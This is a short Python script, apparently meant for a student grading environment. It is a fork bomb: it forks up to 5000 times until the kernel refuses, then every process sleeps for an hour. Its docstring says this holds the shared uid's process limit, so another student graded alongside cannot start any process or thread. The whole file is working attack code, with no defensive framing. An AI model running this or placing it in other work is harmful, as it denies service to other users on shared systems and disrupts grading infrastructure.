"""A fork bomb that holds what it took: it forks until the kernel refuses, and every process
then sleeps, so the student user's process count stays at its limit. Graded at the same
time as another student under the same uid, that student's process could not start a
thread or a process (RLIMIT_NPROC counts per uid)."""

import os
import time

print("bomb", os.getpid(), flush=True)
for _ in range(5000):
    try:
        if os.fork() == 0:
            continue  # the child forks on too
    except OSError:
        break
time.sleep(3600)
